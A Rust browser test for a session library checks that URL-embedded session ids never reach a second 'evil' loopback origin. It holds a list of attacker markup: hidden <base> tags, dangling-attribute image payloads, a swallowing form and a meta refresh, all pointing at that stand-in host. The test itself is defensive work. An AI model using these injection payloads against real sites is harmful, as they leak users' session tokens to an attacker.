//! No session id reaches another origin, whatever the markup around the links (DESIGN §1.8):
//! chromium, with cookies blocked, visits pages whose text an attacker controls and that try
//! to point the page's links elsewhere — a `<base>` hidden where the HTML rewriter's
//! tokenizer and a browser (its parser or its preload scanner) disagree (CDATA in SVG and
//! MathML, `<noscript>`, `<template>`, `<style>`/`<textarea>` in XHTML), an attribute left
//! open across the rewritten links, a form that swallows the application's, a
//! `<meta http-equiv=refresh>` — with scripts on and off, ids in paths and in queries, bodies
//! rewritten whole and streamed. A second server on another loopback port (the "evil"
//! origin) records every request it gets; none may carry the id, while the same-origin links
//! and forms of a plain page still do.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use axum::Router;
use axum::extract::Path;
use axum::http::{StatusCode, header};
use axum::response::IntoResponse;
use axum::routing::any;
use fastmmap::session::{SessionStore, UrlRewriter, UrlStyle};
use fastmmap::web::{SessionHandle, SessionLayer};
use serde_json::json;
use tower_layer::Layer;

use crate::browser::{Browser, Page, chromium_or_skip};
use crate::common::{serial, temp_dir};
use crate::server::Server;

/// The most connections the evil server serves (chromium opens a few per page).
const MAX_CONNECTIONS: usize = 2000;

/// An HTTP server on 127.0.0.1 that records the head of every request it gets and answers
/// each with an empty page.
struct Recorder {
    addr: SocketAddr,
    heads: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl Recorder {
    fn start() -> Recorder {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind the evil server");
        listener.set_nonblocking(true).unwrap();
        let addr = listener.local_addr().unwrap();
        let heads = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (h, s) = (Arc::clone(&heads), Arc::clone(&stop));
        let thread = std::thread::spawn(move || {
            let mut served = 0;
            while !s.load(Ordering::Relaxed) && served < MAX_CONNECTIONS {
                match listener.accept() {
                    Ok((stream, _)) => {
                        served += 1;
                        let h = Arc::clone(&h);
                        std::thread::spawn(move || Recorder::serve(stream, &h));
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(10)),
                }
            }
        });
        Recorder {
            addr,
            heads,
            stop,
            thread: Some(thread),
        }
    }

    /// Reads one request head (bounded in size and time), records it, answers.
    fn serve(mut stream: TcpStream, heads: &Mutex<Vec<String>>) {
        let _ = stream.set_nonblocking(false);
        let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
        let _ = stream.set_write_timeout(Some(Duration::from_secs(5)));
        let mut head = Vec::new();
        let mut buf = [0u8; 4096];
        while !head.windows(4).any(|w| w == b"\r\n\r\n") && head.len() < 64 * 1024 {
            match stream.read(&mut buf) {
                Ok(0) | Err(_) => break,
                Ok(n) => head.extend_from_slice(&buf[..n]),
            }
        }
        if head.is_empty() {
            return; // a preconnect that sent nothing
        }
        heads
            .lock()
            .unwrap()
            .push(String::from_utf8_lossy(&head).into_owned());
        let _ = stream.write_all(
            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 0\r\n\
              Connection: close\r\n\r\n",
        );
    }

    fn heads(&self) -> Vec<String> {
        self.heads.lock().unwrap().clone()
    }
}

impl Drop for Recorder {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// The pages: `(name, content type, markup before the links)`. `EVIL` stands for the evil
/// origin's `//host:port`.
const VARIANTS: &[(&str, &str, &str)] = &[
    ("control", HTML, ""),
    (
        "svg-cdata",
        HTML,
        r#"<svg><![CDATA[<base href="EVIL/app/">]]></svg>"#,
    ),
    (
        "svg-cdata-gt",
        HTML,
        r#"<svg><![CDATA[><base href="EVIL/app/">]]></svg>"#,
    ),
    (
        "math-cdata",
        HTML,
        r#"<math><![CDATA[><base href="EVIL/app/">]]></math>"#,
    ),
    (
        "math-mtext",
        HTML,
        r#"<math><mtext><![CDATA[><base href="EVIL/app/">]]></mtext></math>"#,
    ),
    (
        "math-style",
        HTML,
        r#"<math><style><base href="EVIL/app/"></style></math>"#,
    ),
    (
        "svg-style",
        HTML,
        r#"<svg><style><base href="EVIL/app/"></style></svg>"#,
    ),
    (
        "noscript",
        HTML,
        r#"<noscript><base href="EVIL/app/"></noscript>"#,
    ),
    (
        "noscript-p",
        HTML,
        r#"<noscript><p><BASE HREF=EVIL/app/></p></noscript>"#,
    ),
    (
        "template",
        HTML,
        r#"<template><base href="EVIL/app/"></template>"#,
    ),
    (
        "select",
        HTML,
        r#"<select><base href="EVIL/app/"></select>"#,
    ),
    ("comment", HTML, r#"<!-- <base href="EVIL/app/"> -->"#),
    (
        "textarea",
        HTML,
        r#"<textarea><base href="EVIL/app/"></textarea>"#,
    ),
    // An attribute opened where the rewriter sees text, closed after the rewritten links:
    // whoever reads it as markup fetches a URL with the links' text in it.
    (
        "open-attribute",
        HTML,
        r#"<svg><![CDATA[><img src='EVIL/x?]]></svg>"#,
    ),
    (
        "noscript-open-attribute",
        HTML,
        r#"<noscript><img src='EVIL/x?</noscript>"#,
    ),
    (
        "svg-font-script",
        HTML,
        r#"<svg><font><script><img src='EVIL/x?</script></font></svg>"#,
    ),
    (
        "svg-script",
        HTML,
        r#"<svg><script><![CDATA[><img src='EVIL/x?]]></script></svg>"#,
    ),
    (
        "foreign-object-style",
        HTML,
        r#"<svg><foreignObject><style><img src='EVIL/x?</style></foreignObject></svg>"#,
    ),
    (
        "select-xmp",
        HTML,
        r#"<select><xmp><img src='EVIL/x?</xmp></select>"#,
    ),
    // A <style> that one parser reads as SVG's (its `<!--` a comment) and another as HTML's.
    (
        "svg-font-color-comment",
        HTML,
        r#"<svg><font color=x><style><!--</style><img src='EVIL/x?--></font></svg>"#,
    ),
    (
        "mglyph-comment",
        HTML,
        r#"<math><mi><mglyph><style><!--</style><img src='EVIL/x?--></mglyph></mi></math>"#,
    ),
    ("comment-bang", HTML, r#"<!-- --!><img src='EVIL/x? -->"#),
    ("comment-abrupt", HTML, r#"<!--><img src='EVIL/x? -->"#),
    // An unclosed form: browsers drop the application's <form> tag after it, and its
    // fields (a hidden id field, in query style) go with this one.
    ("nested-form", HTML, r#"<form action="EVIL/collect">"#),
    (
        "refresh",
        HTML,
        r#"<meta http-equiv="refresh" content="0;url=EVIL/refreshed">"#,
    ),
    (
        "xhtml-style",
        XHTML,
        r#"<style><base href="EVIL/app/"/></style>"#,
    ),
    (
        "xhtml-textarea",
        XHTML,
        r#"<form><textarea><base href="EVIL/app/"/></textarea></form>"#,
    ),
    (
        "xhtml-cdata",
        XHTML,
        r#"<p><![CDATA[x]]></p><base href="EVIL/app/"/>"#,
    ),
];

const HTML: &str = "text/html; charset=utf-8";
const XHTML: &str = "application/xhtml+xml";

/// Variants also served with a body large enough to be rewritten as it streams.
const STREAMED: &[&str] = &["control", "svg-cdata-gt", "open-attribute", "noscript"];

/// The suffix of a streamed variant's name.
const BIG: &str = "-big";

/// A variant page: the attack, then links of the application (a tracking pixel, a
/// stylesheet, a relative image, a link, a form) and a closing `'`. A `-big` one ends with
/// a comment that takes it beyond the layer's buffer limit.
fn page(name: &str, evil: SocketAddr) -> Option<(&'static str, String)> {
    let variant = name.strip_suffix(BIG).unwrap_or(name);
    let (_, content_type, attack) = VARIANTS.iter().find(|(n, _, _)| *n == variant)?;
    let attack = attack.replace("EVIL", &format!("//{evil}"));
    let links = format!(
        r#"<img id="pixel" src="/pixel/{name}"/><link rel="stylesheet" href="/style/{name}"/><img id="rel" src="rel/{name}"/><a id="next" href="/next/{name}">next</a><form id="f" action="/form/{name}"><input name="q"/></form><p title='end'>end</p>"#
    );
    let padding = if name.ends_with(BIG) {
        format!(
            "<!-- {} -->",
            "x".repeat(fastmmap::web::DEFAULT_BUFFER_LIMIT + 1)
        )
    } else {
        String::new()
    };
    let links = format!("{links}{padding}");
    let body = if *content_type == XHTML {
        format!(
            r#"<?xml version="1.0" encoding="UTF-8"?>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>{name}</title></head><body>{attack}{links}</body></html>"#
        )
    } else {
        format!(
            "<!DOCTYPE html><html><head><title>{name}</title></head><body>{attack}{links}</body></html>"
        )
    };
    Some((content_type, body))
}

/// The application: `/v/NAME` (a variant page, which uses the session), and the
/// resources its links name.
fn app(path: std::path::PathBuf, addr: SocketAddr, evil: SocketAddr, style: UrlStyle) -> Router {
    let urls = UrlRewriter::new(&format!("http://{addr}/"))
        .unwrap()
        .style(style);
    let store = SessionStore::builder()
        .path(path)
        .urls(urls)
        .build()
        .unwrap();
    let routes = Router::new()
        .route(
            "/v/{name}",
            any(
                move |session: SessionHandle, Path(name): Path<String>| async move {
                    session.insert("seen", &name).expect("session");
                    match page(&name, evil) {
                        Some((content_type, body)) => {
                            ([(header::CONTENT_TYPE, content_type)], body).into_response()
                        }
                        None => StatusCode::NOT_FOUND.into_response(),
                    }
                },
            ),
        )
        .route(
            "/style/{*rest}",
            any(|| async { ([(header::CONTENT_TYPE, "text/css")], "") }),
        )
        .fallback(any(|| async { "ok".into_response() }));
    Router::new().fallback_service(SessionLayer::new(store).layer(routes))
}

/// Pages whose first form is submitted too: the plain one (the session goes along) and the
/// one whose form swallows the application's.
const SUBMITTED: &[&str] = &["control", "nested-form"];

/// The session id in a link of this style.
fn id_of(link: &str, style: UrlStyle) -> Option<String> {
    let rest = match style {
        UrlStyle::Path => link.rsplit_once("/-/")?.1,
        _ => link.split_once("sid=")?.1,
    };
    let end = rest.find(['?', '&', '#']).unwrap_or(rest.len());
    Some(rest[..end].to_owned())
}

/// `path` with the id, in this style.
fn with_id(path: &str, id: &str, style: UrlStyle) -> String {
    match style {
        UrlStyle::Path => format!("{path}/-/{id}"),
        _ => format!("{path}?sid={id}"),
    }
}

/// Visits every variant page of the server at `origin` (ids in URLs in `style`) with
/// scripts on and off; returns the id and what each page's links were.
fn visit_all(
    browser: &mut Browser,
    origin: &str,
    style: UrlStyle,
    evil: SocketAddr,
) -> (String, Vec<String>) {
    // The plain page: its links carry the id, to this origin.
    let id = {
        let mut page = Page::open(browser);
        page.navigate(&format!("{origin}/v/control"));
        page.wait_for("the control page", |h, _| h.ends_with("/v/control"));
        let next = page.eval("document.getElementById('next').href");
        let next = next.as_str().expect("a link").to_owned();
        id_of(&next, style).unwrap_or_else(|| panic!("the link carries no id: {next}"))
    };
    let names: Vec<String> = VARIANTS
        .iter()
        .map(|(n, _, _)| (*n).to_owned())
        .chain(STREAMED.iter().map(|n| format!("{n}{BIG}")))
        .collect();
    let evil_origin = format!("http://{evil}/");
    let mut visited = Vec::new();
    for scripts in [true, false] {
        let mut page = Page::open(browser);
        page.call(
            "Emulation.setScriptExecutionDisabled",
            json!({ "value": !scripts }),
        );
        for name in &names {
            // The address carries the id too: the client came by a rewritten link.
            let here = format!("/v/{name}");
            page.navigate(&format!("{origin}{}", with_id(&here, &id, style)));
            let (href, _) = page.wait_for(name, |h, _| {
                if name == "refresh" {
                    h.starts_with(&evil_origin)
                } else {
                    h.contains(&here)
                }
            });
            if name == "refresh" {
                continue;
            }
            let links = page.eval(
                "JSON.stringify([document.getElementById('pixel') && \
                 document.getElementById('pixel').src, document.getElementById('next') && \
                 document.getElementById('next').href])",
            );
            let links: Vec<Option<String>> =
                serde_json::from_str(links.as_str().expect("a JSON string")).unwrap();
            // The feature still works where the page is plain, or its doubtful <base> is
            // no base to any browser: its links carry the id, to this origin.
            if ["control", "control-big", "template"].contains(&name.as_str()) {
                for (what, link) in [("pixel", &links[0]), ("next", &links[1])] {
                    let link = link.as_deref().unwrap_or("");
                    assert!(
                        link.starts_with(&format!("{origin}/"))
                            && id_of(link, style).as_deref() == Some(id.as_str()),
                        "{name} ({style:?}, scripts {scripts}): the {what} link {link:?} \
                         lost the id"
                    );
                }
            }
            visited.push(format!(
                "{style:?} scripts={scripts} {name}: {href} {links:?}"
            ));
            if SUBMITTED.contains(&name.as_str()) {
                page.act("document.forms[0].requestSubmit()");
                let (after, _) = page.wait_for("the form's answer", |h, _| !h.contains(&here));
                if name == "control" {
                    // The form keeps the session (a hidden field in query style).
                    assert!(
                        after.starts_with(&format!("{origin}/form/control"))
                            && id_of(&after, style).as_deref() == Some(id.as_str()),
                        "{style:?}: the form lost the id: {after}"
                    );
                }
                visited.push(format!("  submitted: {after}"));
            }
        }
    }
    (id, visited)
}

#[test]
fn no_session_id_reaches_another_origin_whatever_the_markup() {
    let _serial = serial();
    let Some(binary) = chromium_or_skip("the id-leak browser test") else {
        return;
    };
    let evil = Recorder::start();
    let evil_addr = evil.addr;
    let mut browser = Browser::launch(&binary);
    let mut ids = Vec::new();
    let mut visited = Vec::new();
    for style in [UrlStyle::Path, UrlStyle::Query] {
        let dir = temp_dir();
        let path = Server::session_file(&dir);
        let server = Server::start(1, dir, move |addr| {
            app(path.clone(), addr, evil_addr, style)
        });
        let (id, pages) = visit_all(
            &mut browser,
            &format!("http://{}", server.addr),
            style,
            evil_addr,
        );
        ids.push(id);
        visited.extend(pages);
    }
    drop(browser);
    // Anything still in flight reaches the recorder within its read timeout.
    let deadline = Instant::now() + Duration::from_secs(2);
    while Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
    let heads = evil.heads();
    eprintln!("pages:\n{}", visited.join("\n"));
    eprintln!("the evil server got {} requests:", heads.len());
    for head in &heads {
        eprintln!("  {}", head.lines().next().unwrap_or(""));
    }
    let leaks: Vec<&String> = heads
        .iter()
        .filter(|h| ids.iter().any(|id| h.contains(id.as_str())))
        .collect();
    assert!(
        leaks.is_empty(),
        "the id reached the evil origin: {leaks:#?}"
    );
    // The recorder works: the refresh page alone sends the browser there.
    assert!(
        heads.iter().any(|h| h.starts_with("GET /refreshed ")),
        "the evil server recorded nothing"
    );
    // The swallowing form did go there, without the id.
    assert!(
        heads.iter().any(|h| h.starts_with("GET /collect?")),
        "the nested form was not submitted to the evil server"
    );
}
